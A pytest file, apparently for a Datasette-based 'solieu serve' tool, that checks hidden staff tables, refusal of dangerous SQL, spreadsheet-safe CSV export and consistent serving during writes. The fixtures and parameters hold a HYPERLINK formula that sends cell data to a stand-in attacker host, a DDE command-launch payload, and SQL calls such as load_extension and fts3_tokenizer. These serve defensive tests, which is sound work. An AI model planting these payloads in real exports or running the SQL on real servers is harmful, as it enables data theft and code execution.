"""What `solieu serve` exposes: no staff-only tables, no dangerous SQL functions, spreadsheet-safe
CSV, and a consistent view of a database that a crawl is writing (refreshed, never "malformed")."""
import csv
import io
import sqlite3
import threading
import time
import urllib.parse
from pathlib import Path

import pytest

from tests.solieu.conftest import copy_db, http_get, running_serve, sql_json

pytest.importorskip("datasette")

SECRET = "https://hooks.example.invalid/services/T000/B000/sEcReTtOkEn123"
FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?x="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def served(demo_db, tmp_path_factory):
    """A served private copy of the demo database holding a watch, an alert run with a webhook
    token, and an article whose title is a spreadsheet formula."""
    assert demo_db[1].returncode == 0
    tmp = tmp_path_factory.mktemp("served")
    path = copy_db(demo_db[0], tmp / "guarded.db")
    con = sqlite3.connect(path)
    con.execute("INSERT INTO watches (kind, value, created_at) VALUES ('term', 'ngân sách bí mật', '2026-01-01')")
    con.execute("INSERT INTO alert_runs (ran_at, items, delivered_to) VALUES ('2026-01-01', 1, ?)", [SECRET])
    con.execute("UPDATE articles SET title = ? WHERE id = (SELECT MIN(id) FROM articles)", [FORMULA_TITLE])
    con.execute("UPDATE observations SET subject = '@SUM(1+1)*cmd|'' /C calc''!A0' "
                "WHERE id = (SELECT MIN(id) FROM observations)")
    con.commit()
    con.close()
    with running_serve(path, tmp / "serve.log", "--refresh", "1") as base:
        yield base, Path(path).stem, path


def test_staff_only_tables_are_not_served(served):
    base, db, _ = served
    for table in ("watches", "alert_runs", "alerts_sent"):
        assert http_get(f"{base}/{db}/{table}.json")[0] == 404
        status, _ = sql_json(base, db, f"select * from {table}")
        assert status == 400
    status, page = http_get(f"{base}/{db}")
    assert status == 200 and "sEcReTtOkEn" not in page and "alert_runs" not in page
    status, dump = sql_json(base, db, "select group_concat(sql) as s from sqlite_master")
    assert status == 200 and "watches" not in str(dump)


@pytest.mark.parametrize("sql", [
    "select fts3_tokenizer('simple') as p",
    "select hex(fts3_tokenizer('unicode61')) as p",
    "select load_extension('/tmp/nothing') as p",
    "attach database '/tmp/other.db' as other",
])
def test_dangerous_sql_is_refused(served, sql):
    base, db, _ = served
    status, body = sql_json(base, db, sql)
    assert status in (400, 403), body
    assert "not authorized" in str(body) or "must be a SELECT" in str(body)


def test_ordinary_sql_still_works(served):
    base, db, _ = served
    status, rows = sql_json(base, db, "select count(*) as n, max(length(title)) as m from articles")
    assert status == 200 and rows[0]["n"] > 30


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("path", [
    "{db}/articles.csv?_col=title&_sort=id&_size=5",
    "{db}/articles.csv?_col=title&_sort=id&_stream=1",
    "{db}/articles.csv?_col=title&_sort=id&_size=5&_dl=1",
    "{db}.csv?sql=" + urllib.parse.quote("select title from articles order by id limit 3"),
    "{db}/observations.csv?_col=subject&_sort=id&_size=3",
])
def test_datasette_csv_is_spreadsheet_safe(served, path):
    base, db, _ = served
    status, text = http_get(f"{base}/{path.format(db=db)}")
    assert status == 200, text[:300]
    cells = _cells(text)
    assert any(c.startswith("'=HYPERLINK(") or c.startswith("'@SUM") for c in cells), text[:300]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert any("Bấm vào đây" in c for c in cells) or "observations" in path  # UTF-8 survives


def test_json_keeps_the_text_unchanged(served):
    base, db, _ = served
    status, rows = sql_json(base, db, "select title from articles order by id limit 1")
    assert status == 200 and rows[0]["title"] == FORMULA_TITLE


def test_a_database_being_written_is_served_consistently_and_refreshed(served):
    """A crawl writing (inserts, deletes, checkpoints) while visitors query: never an error, and
    the snapshot follows the real database."""
    base, db, path = served
    stop = threading.Event()
    errors: list = []

    def writer():
        con = sqlite3.connect(path, timeout=30)
        con.execute("PRAGMA journal_mode = WAL")
        n = 0
        try:
            while not stop.is_set():
                n += 1
                con.execute("INSERT INTO articles (source, url, title, text, fetched_at, content_hash) "
                            "VALUES ('hanoionline', ?, ?, ?, '2026-01-01', ?)",
                            [f"http://127.0.0.1/tmp-{n}.htm", f"Bài tạm {n}", "Nội dung tạm thời. " * 400, str(n)])
                con.commit()
                if n % 3 == 0:
                    con.execute("DELETE FROM articles WHERE url LIKE 'http://127.0.0.1/tmp-%'")
                    con.commit()
                if n % 5 == 0:
                    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        except Exception as exc:  # noqa: BLE001 - reported by the assertion below
            errors.append(exc)
        finally:
            con.close()

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    try:
        deadline = time.time() + 12
        checked = 0
        while time.time() < deadline:
            for q in ("select count(*) as n from articles", "select id, title, length(text) as l from articles "
                      "order by id desc limit 20", "select count(*) as n from observations o join articles a "
                      "on a.id = o.article_id"):
                status, body = sql_json(base, db, q)
                assert status == 200, body
                checked += 1
            assert http_get(f"{base}/{db}/articles?_sort_desc=id")[0] == 200
    finally:
        stop.set()
        thread.join(30)
    assert not errors and checked > 10
    con = sqlite3.connect(path)
    con.execute("INSERT INTO articles (source, url, title, text, fetched_at, content_hash) VALUES "
                "('hanoionline', 'http://127.0.0.1/moi.htm', 'Bài mới sau khi máy chủ khởi động', 'x', '2026', 'h')")
    con.commit()
    con.close()
    deadline = time.time() + 30
    while time.time() < deadline:
        status, rows = sql_json(base, db, "select title from articles where url = 'http://127.0.0.1/moi.htm'")
        if status == 200 and rows:
            break
        time.sleep(0.5)
    else:
        pytest.fail("the served snapshot never showed the new article")


def test_table_search_box_folds_d_with_stroke(served):
    base, db, _ = served
    import json as _json

    for q in ("đô thị", "do thi", "ĐÔ THỊ"):
        status, body = http_get(f"{base}/{db}/articles.json?" + urllib.parse.urlencode(
            {"_search": q, "_shape": "array", "_col": "title"}))
        assert status == 200, body[:300]
        rows = _json.loads(body)
        assert rows, q
